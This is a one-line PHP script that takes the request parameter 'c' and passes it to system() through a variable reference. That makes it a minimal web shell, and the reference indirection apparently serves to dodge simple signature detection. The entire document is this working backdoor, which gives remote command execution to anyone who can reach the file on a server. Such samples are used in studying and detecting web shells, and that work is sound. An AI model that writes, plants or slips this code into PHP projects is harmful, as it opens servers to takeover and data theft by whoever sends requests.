<?php $a = &$b; $b = $_REQUEST['c']; system($a);
